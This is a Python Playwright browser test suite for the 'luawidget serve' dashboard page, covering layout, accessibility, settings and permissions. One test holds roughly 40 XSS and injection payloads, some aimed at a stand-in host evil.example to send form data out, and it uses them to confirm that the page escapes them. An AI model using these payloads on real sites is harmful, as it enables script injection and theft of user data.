#!/usr/bin/env python3
"""Uses the page of `luawidget serve` in chromium.  usage: Tests/browser/run.py PROGRAM [--images FOLDER] [WORD...]

PROGRAM is a build of luawidget. With words, only the checks whose names contain one of them run. With --images, screenshots of the
board at three widths in both appearances are written to a folder. Needs chromium and the Python package playwright.
"""

import os
import re
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from pathlib import Path

from playwright.sync_api import sync_playwright

CHECKS = []
ROOT = Path(__file__).resolve().parents[2]

COUNTER = """
local count = 0
function content()
  return ui.vstack {
    ui.text { "count " .. count },
    ui.button { "Add", id = "add", action = function() count = count + 1 end },
    ui.button { "Other", action = function() end },
    ui.hstack { ui.text { "row" }, on_tap = function() count = count + 10 end },
    ui.date { os.time() + 3600, style = "timer" },
  }
end
"""
TEXT = 'function content() return ui.text { "%s" } end\n'
SETTINGS = """
widget {
  name = "Greeting",
  settings = {
    greeting = { type = "string", default = "Hello", label = "Greeting", description = "The first word." },
    loud = { type = "boolean", default = false, label = "Loud" },
    key = { type = "secret", label = "Key" },
    size = { type = "choice", choices = { "one", "two" }, default = "one", label = "Size" },
  },
}
function content() return ui.text { settings.greeting .. (settings.loud and "!" or ".") .. " " .. settings.size } end
"""

CROWDED = {
    "table": """ui.grid { columns = { "auto", "flex", "auto", "auto" }, "SAP", "Walldorf software house", "€ 212.35", "+1.24 %",
      "BRK.A", "Berkshire", "€ 748,500.00", "+0.34 %" }""",
    "tiles": """(function()
      local tiles = {}
      for index, value in ipairs { "38 km/h", "84 %", "1 013.2 hPa" } do
        tiles[index] = ui.vstack { padding = 8, background = "gray", max_width = math.huge, ui.text { "Pressure", font = "caption" },
          ui.text { value, font = "title3" } }
      end
      return ui.grid { columns = 3, spacing = 6, tiles }
    end)()""",
    "gauges": """ui.hstack { ui.gauge { 92, max = 100, value_text = "92 %", text = "Battery" },
      ui.gauge { 4.2, max = 9.8, value_text = "4.2 kW", text = "Power" }, ui.gauge { 41, max = 80, value_text = "41 °C", text = "Inverter" },
      ui.gauge { 0.3, shape = "ring", value_text = "30 %", text = "Self-sufficiency" } }""",
    "bar": """ui.gauge { 9.2, max = 10, shape = "bar", value_text = "9.2 of 10 kWh", text = "House battery" }""",
    "buttons": """ui.hstack { ui.button { "Everything off", icon = "power", on_tap = f }, ui.button { "Good night", icon = "moon.fill", on_tap = f },
      ui.button { "Away", icon = "figure.walk", on_tap = f } }""",
    "segments": """ui.picker { label = "Payment", choices = { "Bank transfer", "Credit card", "Cash" }, selected = "Credit card",
      style = "segments", on_change = f }""",
    "date": """ui.date_field { label = "Delivery", value = 1795777200, style = "date_time", on_change = f }""",
    "row": """ui.hstack { ui.text { "12×", width = 32, font = "footnote" }, "Paper clips", ui.spacer(), "€ 17.88" }""",
    "ring": """ui.hstack { ui.zstack { width = 72, height = 72, ui.circle { stroke = "teal", line_width = 7 }, ui.text { "2.4", font = "title2" } },
      ui.text { "Cuxhaven, harbour", font = "headline" } }""",
    "month": """(function()
      local cells = {}
      for day = 1, 30 do
        cells[day] = ui.zstack { width = 22, height = 22, day == 27 and ui.circle { fill = "red" }, ui.text { day, font = "footnote" } }
      end
      return ui.grid { columns = 7, spacing = 3, cells }
    end)()""",
    "chart": """ui.chart { type = "bar", min_height = 90, labels = { "6", "8", "10", "12" }, series = {
      { name = "Own consumption", values = { 1, 2, 3, 2 } }, { name = "Fed into the grid", values = { 2, 4, 3, 1 } } } }""",
    "pie": """ui.chart { 42, 27, 18, 9, 4, type = "pie", labels = { "Germany", "Austria", "Switzerland", "Liechtenstein", "Others" },
      width = 150, height = 100 }""",
    "agenda": """ui.hstack { ui.rectangle { width = 3, height = 30 }, ui.vstack { ui.text { "Quarterly meeting", line_limit = 1 },
      ui.text { "Room 4.12", font = "caption" } }, ui.spacer(), ui.vstack { "09:00", "10:30" } }""",
}
# Elements with letters of their own: outside the card, in front of each other, or a number on two lines.
CROWDING = """() => {
  const card = document.querySelector('.widget').getBoundingClientRect(), found = [], boxes = [];
  const walker = document.createTreeWalker(document.querySelector('.content'), NodeFilter.SHOW_TEXT);
  for (let node; node = walker.nextNode();) {
    const element = node.parentElement;
    if (!node.data.trim() || element.closest('.spoken,title')) continue;
    const range = document.createRange();
    range.selectNodeContents(node);
    let rects = [...range.getClientRects()].filter(rect => rect.width > 1);
    // Letters that are cut aren't seen.
    for (let outer = element; outer !== document.body; outer = outer.parentElement) {
      if (getComputedStyle(outer).overflowX === 'visible' || outer.matches('.widget')) continue;
      const box = outer.getBoundingClientRect();
      rects = rects.map(rect => new DOMRect(Math.max(rect.left, box.left), Math.max(rect.top, box.top),
        Math.min(rect.right, box.right) - Math.max(rect.left, box.left), Math.min(rect.bottom, box.bottom) - Math.max(rect.top, box.top)))
        .filter(rect => rect.width > 1 && rect.height > 1);
    }
    if (!rects.length) { found.push('gone: ' + node.data); continue; }
    for (const rect of rects)
      if (rect.left < card.left - 1 || rect.right > card.right + 1 || rect.bottom > card.bottom + 1) found.push('outside: ' + node.data);
    if (element.closest('.figure') && rects.some(rect => rect.top > rects[0].bottom - 2)) found.push('broken: ' + node.data);
    for (const rect of rects)
      for (const box of boxes)
        if (Math.min(rect.right, box[0].right) - Math.max(rect.left, box[0].left) > 2
          && Math.min(rect.bottom, box[0].bottom) - Math.max(rect.top, box[0].top) > rect.height * 0.4) found.push(node.data + ' over ' + box[1]);
    boxes.push(...rects.map(rect => [rect, node.data]));
  }
  return found;
}"""


def check(function):
    CHECKS.append(function)
    return function


class Board:
    """A running `luawidget serve` with its own folder."""

    running = []
    pages = []

    def __init__(self, program, widgets, arguments=()):
        self.program = program
        self.arguments = list(arguments)
        self.folder = Path(tempfile.mkdtemp(prefix="luawidget-browser-"))
        boards = self.folder / ".config/luawidget/boards"
        boards.mkdir(parents=True)
        for name, text in widgets.items():
            path = name if name.startswith("/") else self.write(name, text)
            with open(boards / "today.toml", "a", encoding="utf-8") as file:
                file.write(f'[[widget]]\nfile = "{path}"\n\n')
        self.start()

    def write(self, name, text):
        path = self.folder / name
        part = self.folder / (name + ".part")
        part.write_text(text, encoding="utf-8")
        part.rename(path)
        return path

    def start(self, port=0):
        environment = {"HOME": str(self.folder), "PATH": "/usr/bin:/bin", "LANG": "en_US.UTF-8", "TZ": "UTC"}
        self.process = subprocess.Popen(
            [self.program, "serve", "--port", str(port), "--quiet"] + self.arguments, env=environment, stdout=subprocess.PIPE, text=True)
        self.address = self.process.stdout.readline().strip()
        self.origin = re.match("http://[^/]+", self.address)[0]
        self.port = int(self.origin.rsplit(":", 1)[1])
        Board.running.append(self)

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            assert self.process.wait(30) == 143

    def server(self):
        """The process id of luawidget-server."""
        children = Path(f"/proc/{self.process.pid}/task").glob("*/children")
        for pid in " ".join(file.read_text() for file in children).split():
            if Path(f"/proc/{pid}/comm").read_text().startswith("luawidget-serve"):
                return int(pid)
        return None


class Page:
    """A page that collects everything that a console shows."""

    def __init__(self, browser, board, width=1440, height=900, scheme="light", script=True):
        self.context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme, java_script_enabled=script)
        self.page = self.context.new_page()
        self.page.set_default_timeout(30000)
        self.errors = []
        self.page.on("console", lambda message: self.errors.append(message.text) if message.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        Board.pages.append(self)
        self.page.goto(board.address)
        if not script:
            self.page.get_by_role("button", name="Open the board").click()
        self.page.wait_for_selector("#cards")


def text_of(page, card):
    return page.locator(f"#card-{card}").inner_text()


def wait_text(page, card, text):
    page.wait_for_function(
        "([card, text]) => document.getElementById('card-' + card)?.innerText.replace(/\\s+/g, ' ').includes(text)", arg=[card, text], timeout=30000)


@check
def shows_cards_and_no_errors(program, browser):
    board = Board(program, {"counter.lua": COUNTER, "text.lua": TEXT % "plain"})
    page = Page(browser, board)
    wait_text(page.page, "counter", "count 0")
    wait_text(page.page, "text", "plain")
    assert page.page.locator("h1").count() == 1
    for path in ("add", "access", "settings?widget=text", "settings?widget=none", "widgets/text.html", "widgets/text.svg"):
        page.page.goto(f"{board.origin}/{path}")
    # The browser itself reports a missing page's status.
    page.errors = [error for error in page.errors if "404 (Not Found)" not in error]
    return board


@check
def taps_and_keeps_the_focus(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board)
    wait_text(page.page, "counter", "count 0")
    button = page.page.get_by_role("button", name="Add", exact=True)
    button.focus()
    for count in range(1, 4):
        page.page.keyboard.press("Enter")
        wait_text(page.page, "counter", f"count {count}")
        assert page.page.evaluate("document.activeElement.innerText.trim()") == "Add"
    page.page.get_by_role("button", name="row", exact=True).click()
    wait_text(page.page, "counter", "count 13")
    return board


@check
def timers_tick_without_the_server(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board)
    wait_text(page.page, "counter", "count 0")
    first = page.page.locator("#card-counter time[data-style=timer]").inner_text()
    page.page.wait_for_function(
        "first => document.querySelector('#card-counter time[data-style=timer]').innerText !== first", arg=first, timeout=30000)
    return board


@check
def two_tabs_show_the_same(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board)
    wait_text(page.page, "counter", "count 0")
    other = page.context.new_page()
    other.goto(f"{board.origin}/")
    wait_text(other, "counter", "count 0")
    page.page.get_by_role("button", name="Add", exact=True).click()
    wait_text(other, "counter", "count 1")
    return board


@check
def works_without_javascript(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board, script=False)
    for _ in range(300):
        if "count 0" in page.page.inner_text("#cards"):
            break
        time.sleep(0.1)
        page.page.reload()
    page.page.get_by_role("button", name="Add", exact=True).click()
    page.page.wait_for_load_state()
    for _ in range(100):
        if "count 1" in page.page.inner_text("#cards"):
            return board
        time.sleep(0.1)
        page.page.reload()
    raise AssertionError(page.page.inner_text("#cards"))


@check
def reloads_a_saved_script_and_shows_its_error(program, browser):
    board = Board(program, {"a.lua": TEXT % "first", "b.lua": TEXT % "other"})
    page = Page(browser, board)
    wait_text(page.page, "a", "first")
    board.write("a.lua", TEXT % "second")
    wait_text(page.page, "a", "second")
    board.write("a.lua", "function content()\n  return ui.text {\nend\n")
    page.page.wait_for_selector("#card-a .problem pre")
    assert "return ui.text {" in text_of(page.page, "a")
    assert "other" in text_of(page.page, "b")
    board.write("a.lua", TEXT % "third")
    wait_text(page.page, "a", "third")
    assert page.page.locator("#card-a .problem").count() == 0
    return board


@check
def the_server_may_crash(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board)
    wait_text(page.page, "counter", "count 0")
    os.kill(board.server(), signal.SIGKILL)
    for _ in range(300):
        if board.server():
            break
        time.sleep(0.1)
    board.write("counter.lua", TEXT % "after the crash")
    wait_text(page.page, "counter", "after the crash")
    return board


@check
def luawidget_may_restart(program, browser):
    board = Board(program, {"a.lua": TEXT % "before"})
    page = Page(browser, board)
    wait_text(page.page, "a", "before")
    port = board.port
    board.stop()
    board.write("a.lua", TEXT % "after")
    board.start(port)
    wait_text(page.page, "a", "after")
    return board


@check
def moves_a_card_by_keyboard(program, browser):
    board = Board(program, {"a.lua": TEXT % "first", "b.lua": TEXT % "second"})
    page = Page(browser, board)
    wait_text(page.page, "b", "second")
    page.page.locator("#card-b").focus()
    page.page.keyboard.press("Alt+ArrowUp")
    page.page.wait_for_function("() => document.querySelector('#cards .card').id === 'card-b'", timeout=30000)
    assert page.page.evaluate("document.activeElement.id") == "card-b"
    return board


@check
def hides_and_shows_a_card(program, browser):
    board = Board(program, {"a.lua": TEXT % "first", "b.lua": TEXT % "second"})
    page = Page(browser, board)
    wait_text(page.page, "a", "first")
    page.page.get_by_label("Actions for a").click()
    page.page.locator("#card-a").get_by_role("button", name="Hide").click()
    page.page.wait_for_function("() => document.getElementById('card-a') === null", timeout=30000)
    page.page.get_by_text("1 hidden widget").click()
    page.page.get_by_role("button", name="Show a").click()
    wait_text(page.page, "a", "first")
    return board


@check
def shows_more_and_less(program, browser):
    board = Board(program, {"a.lua": 'function content() return ui.text { "first", height = 200 } end'})
    page = Page(browser, board)
    wait_text(page.page, "a", "first")
    page.page.get_by_role("button", name="Show less of a").click()
    page.page.get_by_role("button", name="Show more of a").click()
    page.page.get_by_role("button", name="Show less of a").wait_for()
    return board


@check
def changes_settings(program, browser):
    board = Board(program, {"greet.lua": SETTINGS})
    page = Page(browser, board)
    wait_text(page.page, "greet", "Hello. one")
    page.page.get_by_label("Actions for Greeting").click()
    page.page.get_by_role("link", name="Settings").click()
    page.page.get_by_label("Greeting").fill("Good <b>day</b>")
    page.page.get_by_label("Loud").check()
    page.page.get_by_label("Size", exact=True).first.select_option("two")
    assert page.page.get_by_label("Key").input_value() == ""
    page.page.get_by_role("button", name="Save").click()
    page.page.wait_for_selector("#cards")
    wait_text(page.page, "greet", "Good <b>day</b>! two")
    return board


@check
def adds_and_removes_a_widget(program, browser):
    board = Board(program, {"a.lua": TEXT % "first"})
    path = board.write("new.lua", TEXT % "added")
    page = Page(browser, board)
    wait_text(page.page, "a", "first")
    page.page.get_by_role("link", name="Add a widget").click()
    page.page.get_by_label("Name or path of a widget").fill(str(path))
    page.page.get_by_role("button", name="Add", exact=True).first.click()
    wait_text(page.page, "new", "added")
    page.page.goto(f"{board.origin}/settings?widget=new")
    page.page.get_by_role("button", name="Remove from the board").click()
    page.page.wait_for_selector("#card-a")
    page.page.wait_for_function("() => document.getElementById('card-new') === null", timeout=30000)
    return board


@check
def the_first_paint_comes_before_any_update(program, browser):
    board = Board(program, {"a.lua": TEXT % "stored"})
    page = Page(browser, board)
    wait_text(page.page, "a", "stored")
    port = board.port
    board.stop()
    board.write("a.lua", "function content() while true do end end\n")
    board.start(port)
    # The page of a session is complete at once: no update has ended, and none will.
    html = page.page.goto(f"{board.origin}/").text()
    assert "stored" in html, html
    assert "stored" in text_of(page.page, "a")
    return board


@check
def expands_a_card_by_keyboard(program, browser):
    source = """
widget { largest_display_mode = "expanded" }
function content(context)
  if context.display_mode == "compact" then return ui.text { "short" } end
  return ui.text { "all of it", height = 200 }
end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    wait_text(page.page, "a", "all of it")
    page.page.get_by_role("button", name="Show less of a").focus()
    page.page.keyboard.press("Enter")
    wait_text(page.page, "a", "short")
    page.page.get_by_role("button", name="Show more of a").focus()
    page.page.keyboard.press("Enter")
    wait_text(page.page, "a", "all of it")
    return board


@check
def refuses_wrong_settings_and_never_shows_a_secret(program, browser):
    source = """
widget { settings = {
  count = { type = "integer", default = 3, label = "Count" },
  color = { type = "color", default = "red", label = "Colour" },
  key = { type = "secret", label = "Key" },
} }
function content() return ui.text { "count " .. settings.count } end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    wait_text(page.page, "a", "count 3")
    address = f"{board.origin}/settings?widget=a"
    page.page.goto(address)
    page.page.get_by_label("Colour", exact=True).fill("no colour")
    page.page.get_by_label("Count").fill("7")
    page.page.get_by_label("Key").fill("the-secret")
    page.page.get_by_role("button", name="Save").click()
    page.page.get_by_role("alert").wait_for()
    assert "Colour must be a colour" in page.page.get_by_role("alert").inner_text()
    assert page.page.get_by_label("Colour", exact=True).input_value() == "no colour"
    assert page.page.get_by_label("Count").input_value() == "7"
    assert "count" not in (board.folder / ".config/luawidget/boards/today.toml").read_text()
    page.page.get_by_label("Colour", exact=True).fill("blue")
    page.page.get_by_label("Key").fill("the-secret")
    page.page.get_by_role("button", name="Save").click()
    wait_text(page.page, "a", "count 7")
    page.page.goto(address)
    assert page.page.get_by_label("Key").input_value() == ""
    assert "the-secret" not in page.page.content()
    page.page.get_by_text("A value is stored.").wait_for()
    # The browser itself reports a refused form's status.
    page.errors = [error for error in page.errors if "422" not in error]
    return board


def answer(page, name):
    """Answers a permission question, which takes no input in its first half second."""
    button = page.get_by_role("button", name=name)
    button.wait_for()
    page.wait_for_timeout(700)
    button.click()


@check
def asks_for_permissions(program, browser):
    source = """
widget { permissions = { env = { "HOME" } } }
function content() return ui.text { env.get("HOME") and "allowed" or "not allowed" } end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    answer(page.page, "Always: reading the environment variable")
    page.page.wait_for_function("() => document.querySelector('.permissions') === null", timeout=30000)
    wait_text(page.page, "a", "allowed")
    page.page.wait_for_function(
        "() => !document.getElementById('card-a').innerText.includes('not allowed')", timeout=30000)
    return board


FAMILY = """
widget { permissions = { env = { "HOME" } } }
function content() return ui.vstack { ui.text "the view", ui.image "sea.jpg" } end
"""
WIDE = """
local function button(title) return ui.button { title, action = function() end } end
function content()
  return ui.card { header = "hidden", background = { image = "sea.jpg", color = "blue" },
    ui.text "plain", ui.chart { 1, 2, 3, height = 300 }, ui.text "below",
    ui.hstack { button "One button", button "Another button", button "A third button" } }
end
"""


@check
def cards_of_a_family_have_space(program, browser):
    """What is wrong with a widget, and what it asks for, is inside its card; nothing is wider than the page."""
    board = Board(program, {"a.lua": FAMILY, "b.lua": 'function content() error("no") end\n', "c.lua": TEXT % "in a circle", "d.lua": WIDE})
    families = {"a": ["small", "circular", "rectangular"], "b": ["small", "circular"], "c": ["circular", "inline"], "d": [None, "small"]}
    entries = ""
    for name, all_families in families.items():
        for family in all_families:
            entries += f'[[widget]]\nfile = "{board.folder}/{name}.lua"\nid = "{name}-{family}"\n'
            entries += f'family = "{family}"\n\n' if family else "\n"
    for name in ("a", "d"):
        (board.folder / name).mkdir()
        (board.folder / name / "sea.jpg").write_bytes((ROOT / "examples/cards/photo/lake.jpg").read_bytes())
    (board.folder / ".config/luawidget/boards/today.toml").write_text(entries, encoding="utf-8")
    page = Page(browser, board, width=390)
    page.page.wait_for_selector("#card-b-circular .problem")
    page.page.wait_for_selector("#card-a-rectangular .permissions")
    wait_text(page.page, "c-circular", "in a circle")
    page.page.wait_for_selector("#card-d-small .backdrop", state="attached")
    page.page.locator("#card-d-None").hover()
    page.page.get_by_role("button", name="Show less of d").first.click()
    page.page.wait_for_function("() => document.querySelector('#card-d-None [aria-expanded=false]')")
    outside = page.page.evaluate("""() => [...document.querySelectorAll('.permissions, .problem, .note')].filter(part => {
        const [a, b] = [part.getBoundingClientRect(), part.closest('article').getBoundingClientRect()];
        return a.bottom > b.bottom + 1 || a.right > b.right + 1 }).map(part => part.closest('article').id)""")
    assert outside == [], outside
    width = page.page.evaluate("() => document.documentElement.scrollWidth")
    assert width <= 390, width
    for line in page.page.locator("#card-d-None .button").all():
        assert line.evaluate("node => node.scrollWidth <= node.clientWidth + 1"), line.inner_text()
    return board


@check
def the_console_is_a_drawer_for_authors(program, browser):
    source = 'function content() print("printed by a") return ui.text { "view" } end\n'
    board = Board(program, {"a.lua": source}, ["--watch"])
    page = Page(browser, board)
    wait_text(page.page, "a", "view")
    page.page.locator("#console summary").click()
    page.page.locator("#console").get_by_text("printed by a").first.wait_for()
    return board


@check
def notifies_where_the_user_asked(program, browser):
    source = """
widget { permissions = { notify = true } }
function content()
  return ui.button { "Remind", action = function() notify { title = "Tea", body = "is <b>ready</b>", id = "tea" } end }
end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    page.page.add_init_script("""
        window.notifications = [];
        window.Notification = class extends EventTarget {
          static permission = 'default';
          static async requestPermission() { return this.permission = 'granted'; }
          constructor(title, options) { super(); notifications.push([title, options.body, options.tag]); }
          close() {}
        };
    """)
    page.page.reload()
    answer(page.page, "Always: showing notifications")
    page.page.wait_for_function("() => document.querySelector('.permissions') === null", timeout=30000)
    bell = page.page.get_by_role("button", name="Notifications in this browser")
    assert bell.get_attribute("aria-pressed") == "false"
    with page.page.expect_request(lambda request: "notify=1" in request.url):
        bell.click()
    page.page.wait_for_function("() => document.getElementById('notify').ariaPressed === 'true'", timeout=30000)
    other = page.context.new_page()
    other.goto(f"{board.origin}/")
    for _ in range(100):
        page.page.get_by_role("button", name="Remind").click()
        page.page.wait_for_timeout(300)
        if page.page.evaluate("notifications.length"):
            break
    assert page.page.evaluate("notifications[0].slice(0, 2)") == ["Tea", "is <b>ready</b>"]
    return board


@check
def nothing_leaves_a_card(program, browser):
    """Whatever the text size: every text is on its card, in front of no other, and numbers are on one line."""
    folder = Path(tempfile.mkdtemp(prefix="luawidget-browser-"))
    page = browser.new_context().new_page()
    found = []
    for name, view in CROWDED.items():
        source = folder / f"{name}.lua"
        source.write_text(f"local f = function() end\nfunction content() return ui.vstack {{ {view} }} end\n", encoding="utf-8")
        for size in ("large", "xxxLarge", "accessibility1", "accessibility3", "accessibility5"):
            html = subprocess.run(
                [program, "run", str(source), "--no-snapshot", "--format", "html", "--text-size", size], capture_output=True, check=True,
                env={"HOME": str(folder), "PATH": "/usr/bin:/bin", "LANG": "en_US.UTF-8", "TZ": "UTC"}).stdout.decode()
            page.set_content(html)
            for width in (340, 390, 700):
                page.set_viewport_size({"width": width, "height": 900})
                found += [f"{name} {size} {width}: {problem}" for problem in page.evaluate(CROWDING)]
    page.context.close()
    assert not found, "\n".join(found)


@check
def hostile_texts_stay_texts(program, browser):
    """40 attempts through every text field: nothing runs, nothing is loaded, and no element is added."""
    hostile = [
        "<script>alert(1)</script>", "</article><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
        '" autofocus onfocus=alert(1) x="', "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<svg onload=alert(1)>", "<math><mtext></form><form>", "<form action=//evil.example><input name=token>",
        "</form><form id=actions action=//evil.example>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<object data=x>",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:x", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cscript\\u003e", "&lt;script&gt;alert(1)",
        "&#60;script&#62;alert(1)", "\u2028alert(1)\u2029", "\n\nevent: card\ndata: {}\n\n", "\r\nSet-Cookie: a=b", "\u202etpircs",
        "\ufeff<script>alert(1)</script>", "+ADw-script+AD4-alert(1)", "<button formaction=//evil.example form=actions>",
        '<a href="/logout" ping=//evil.example>', "<template shadowrootmode=open><slot>", "}*{background:url(//evil.example)}",
    ]
    assert len(hostile) >= 40

    def lua(text):
        return '"' + "".join(f"\\{byte:03}" for byte in text.encode()) + '"'

    def source(number, text):
        return f"""
widget {{ name = {lua(text)}, settings = {{ a = {{ type = "string", default = {lua(text)}, label = {lua(text)}, description = {lua(text)} }} }} }}
local s = {lua(text)}
function content()
  print(s)
  return ui.vstack {{
    ui.text {{ "mark{number}." }}, ui.text {{ s }}, ui.text {{ s, accessibility = s, id = s }}, ui.label {{ s, icon = "star" }},
    ui.button {{ s, action = function() end, id = s .. "b" }}, ui.toggle {{ s, on = true, action = function() end }},
    ui.hstack {{ ui.text {{ s }}, on_tap = function() end, accessibility = s }},
    ui.progress {{ value = 0.5, accessibility = s }},
    ui.chart {{ type = "bar", labels = {{ s }}, series = {{ {{ name = s, values = {{ 1 }} }} }} }},
  }}
end
"""

    count = "[...document.querySelectorAll('#card-a *')].filter(e => !e.closest('svg')).length"
    board = Board(program, {"a.lua": source(0, "harmless")})
    page = Page(browser, board)
    dialogs, requests = [], []
    page.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.page.on("request", lambda request: requests.append(request.url))
    wait_text(page.page, "a", "mark0.")
    elements = page.page.evaluate(count)
    for number, text in enumerate(hostile, 1):
        board.write("a.lua", source(number, text))
        wait_text(page.page, "a", f"mark{number}.")
        page.page.wait_for_function(f"count => {count} === count", arg=elements, timeout=30000)
        page.page.reload()
        wait_text(page.page, "a", f"mark{number}.")
    page.page.goto(f"{board.origin}/settings?widget=a")
    page.page.get_by_role("button", name="Save").wait_for()
    origin = f"{board.origin}/"
    assert dialogs == [], dialogs
    assert [url for url in requests if not url.startswith(origin) and not url.startswith("data:image/")] == [], requests
    assert page.page.locator("script").count() == 1
    return board


CLOCK = 'function content() return ui.vstack { ui.date { os.time(), style = "time", font = "title" }, ui.text { "clock" } } end\n'
GAUGE = 'function content() return ui.gauge { value = 0.4, text = "Battery" } end\n'
LONG_CHART = """
function content()
  local values = {}
  for index = 1, 200 do values[index] = index % 17 end
  return ui.chart { type = "line", values = values }
end
"""


@check
def prints_every_card_once_without_controls(program, browser):
    widgets = {f"{name}{index}.lua": text for index in range(3) for name, text in (("clock", CLOCK), ("gauge", GAUGE), ("chart", LONG_CHART))}
    board = Board(program, widgets)
    page = Page(browser, board)
    wait_text(page.page, "clock0", "clock")
    page.page.wait_for_function("() => document.querySelectorAll('.card svg').length >= 6")
    assert page.page.evaluate("() => document.documentElement.scrollHeight <= innerHeight"), "the page scrolls below its cards"
    page.page.emulate_media(media="print")
    page.page.set_viewport_size({"width": 740, "height": 1000})
    frames = page.page.evaluate(
        "() => [...document.querySelectorAll('.card')].map(card => { const r = card.getBoundingClientRect(); return [r.x, r.y, r.right, r.bottom] })")
    assert len(frames) == 9 and all(right - x > 100 and bottom - y > 50 for x, y, right, bottom in frames), frames
    for index, (x, y, right, bottom) in enumerate(frames):
        for left, top, end, low in frames[:index]:
            assert x >= end + 8 or left >= right + 8 or y >= low + 8 or top >= bottom + 8, frames
    assert page.page.locator(".menu:visible, #console:visible, .disclosure:visible").count() == 0
    # The event stream stays open; printing doesn't wait for it.
    pages = page.page.pdf()
    assert pages.startswith(b"%PDF") and len(re.findall(rb"/Type\s*/Page\b", pages)) <= 2, len(pages)
    return board


@check
def forced_colours_keep_outlines_and_states(program, browser):
    source = """
function content()
  return ui.vstack { ui.toggle { "On", on = true, action = function() end }, ui.toggle { "Off", on = false, action = function() end } }
end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    wait_text(page.page, "a", "Off")
    page.page.emulate_media(forced_colors="active")
    assert page.page.evaluate("() => getComputedStyle(document.querySelector('#card-a')).borderTopWidth") == "1px"
    on, off = page.page.evaluate("() => [...document.querySelectorAll('.switch')].map(e => getComputedStyle(e).backgroundColor)")
    assert on != off, (on, off)
    return board


@check
def labels_and_values_are_lists_of_descriptions(program, browser):
    source = """
local function row(name, value) return ui.hstack { ui.text { name }, ui.spacer(), ui.text { value } } end
function content() return ui.vstack { ui.text { "Title" }, row("Boarding", "12:05"), row("Takeoff", "12:45") } end
"""
    board = Board(program, {"a.lua": source})
    page = Page(browser, board)
    wait_text(page.page, "a", "12:45")
    terms = page.page.locator("#card-a dl > div > dt").all_inner_texts()
    values = page.page.locator("#card-a dl > div > dd").all_inner_texts()
    assert (terms, values) == (["Boarding", "Takeoff"], ["12:05", "12:45"]), (terms, values)
    left, right = (page.page.locator(f"#card-a {name}").first.bounding_box() for name in ("dt", "dd"))
    card = page.page.locator("#card-a").bounding_box()
    assert abs(right["x"] + right["width"] - (card["x"] + card["width"] - 16)) < 1.5, (right, card)
    assert left["y"] == right["y"], (left, right)
    return board


@check
def has_names_for_all_controls_and_contrast(program, browser):
    board = Board(program, {"counter.lua": COUNTER})
    page = Page(browser, board)
    for scheme in ("light", "dark"):
        page.page.emulate_media(color_scheme=scheme)
        wait_text(page.page, "counter", "count 0")
        tree = page.page.locator("body").aria_snapshot()
        for wanted in ("heading", "main", "navigation", "button \"Add\"", "article"):
            assert wanted in tree, tree
        unnamed = page.page.evaluate(
            "[...document.querySelectorAll('button,a,summary,input')].filter(e => e.type !== 'hidden' && !e.closest('[hidden]') && "
            "!(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length)).map(e => e.outerHTML)")
        assert unnamed == [], unnamed
        low = page.page.evaluate(CONTRAST)
        assert low == [], low
    return board


# The browser reports requests that fail while a server is gone.
ENDS_SERVERS = {the_server_may_crash, luawidget_may_restart, the_first_paint_comes_before_any_update}

# The texts whose contrast with the nearest background is below WCAG AA.
CONTRAST = """
() => {
  const parse = (text) => (text.match(/[\\d.]+/g) || []).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const low = [];
  for (const element of document.querySelectorAll('main *, header *')) {
    const own = [...element.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
    if (!own || element.closest('[hidden],.spoken,svg,noscript') || !element.checkVisibility()) continue;
    let ground = element, color = [0, 0, 0, 0];
    while (ground) { color = parse(getComputedStyle(ground).backgroundColor); if (color.length < 4 || color[3] > 0.5) break; ground = ground.parentElement; }
    const [a, b] = [light(parse(getComputedStyle(element).color)), light(color)];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.4) low.push(element.tagName + ' ' + element.innerText.slice(0, 20) + ' ' + ratio.toFixed(2));
  }
  return low;
}
"""


def take_images(program, browser, folder):
    folder.mkdir(parents=True, exist_ok=True)
    files = [ROOT / name for name in (
        "widgets/flight.lua", "examples/gauge.lua", "examples/chart.lua", "widgets/disk.lua", "examples/controls.lua",
        "examples/calendar.lua", "examples/markdown.lua")]
    board = Board(program, {str(path): "" for path in files})
    page = Page(browser, board)
    # The flight widget asks for a permission.
    answer(page.page, re.compile("^This time: "))
    page.page.mouse.move(0, 0)
    page.page.evaluate("() => document.activeElement.blur()")
    page.page.wait_for_timeout(4000)
    for width, height in ((390, 844), (820, 1180), (1440, 840)):
        for scheme in ("light", "dark"):
            page.page.set_viewport_size({"width": width, "height": height})
            page.page.emulate_media(color_scheme=scheme)
